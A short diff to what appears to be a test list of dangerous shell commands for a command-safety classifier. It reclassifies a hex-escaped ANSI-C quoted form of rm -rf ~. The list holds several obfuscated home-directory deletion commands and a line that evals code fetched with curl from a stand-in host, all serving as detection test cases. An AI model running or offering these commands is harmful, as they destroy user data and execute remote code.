@@ -80,7 +80,7 @@ DANGEROUS = [
     ("$(echo rm) -rf ~", COMPUTED),
     ("`echo rm` -rf ~", COMPUTED),
     ("X=rm; $X -rf ~", COMPUTED),
-    ("$'\\x72m' -rf ~", COMPUTED),
+    ("$'\\x72m' -rf ~", RM),  # ANSI-C quoting is read: it is rm
     ("{rm,-rf,~}", COMPUTED),
     ("eval rm -rf ~", COMPUTED),
     ("eval \"$(curl -s https://x.example/i)\"", COMPUTED),
